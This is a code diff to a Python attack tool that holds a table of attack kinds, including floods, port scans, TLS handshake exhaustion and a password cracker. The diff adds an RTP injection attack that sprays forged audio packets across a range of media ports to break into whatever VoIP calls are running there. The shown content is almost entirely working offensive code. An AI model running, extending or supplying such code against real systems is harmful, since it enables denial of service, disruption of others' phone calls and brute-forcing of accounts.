@@ -7,6 +7,7 @@ import json
 import os
 import re
 import socket
+import struct
 import time
 from collections.abc import Callable, Iterator, Mapping
 from contextlib import suppress
@@ -26,6 +27,7 @@ Attack = Callable[[Address, int, float, str], tuple[int, int]]  # target, rate, 
 TICK = 0.005  # seconds between bursts
 MOST = 100_000  # packets, or connections, a second
 AT_ONCE = 1_000  # connections held
+PORTS = 200  # that RTP is sent to: of a hundred calls
 HELLO = bytes.fromhex("160301020001000001fc0303")  # of TLS, and then nothing more
 
 _LOCAL = re.compile(r"\|-- ([0-9.]+)\n\s+/32 host LOCAL")
@@ -138,6 +140,22 @@ def _flood(make: Make) -> Attack:
     return attack
 
 
+def _speech(to: Address, rate: int, seconds: float, source: str) -> tuple[int, int]:
+    """RTP to the media port that is the target and to the next ones of calls: into whatever call is there."""
+    sent = heard = 0
+    with _socket(socket.SOCK_DGRAM, to, source) as sock:
+        for due in _paced(rate, seconds):
+            for _ in range(due):
+                packet = struct.pack("!BBHII", 0x80, 8, sent & 0xFFFF, 160 * sent & 0xFFFFFFFF, 0x5EED) + b"\xd5" * 160
+                with suppress(OSError):
+                    sock.sendto(packet, (to[0], to[1] + 2 * (sent % PORTS)))
+                sent += 1
+            with suppress(OSError):
+                while sock.recv(4096, socket.MSG_DONTWAIT):
+                    heard += 1
+    return sent, heard
+
+
 def _crack(to: Address, rate: int, seconds: float, source: str) -> tuple[int, int]:
     """Passwords for one account, each with a nonce of its challenge: so that the source has proved its address."""
     sent = heard = 0
@@ -229,6 +247,7 @@ KINDS: Mapping[str, Attack] = {
     "garbage": _flood(_garbage),
     "fragments": _flood(_long),
     "scan": _flood(_scan),
+    "rtp": _speech,
     "crack": _crack,
     "connections": _connections(b"", hold=False),
     "handshakes": _connections(HELLO, hold=False),
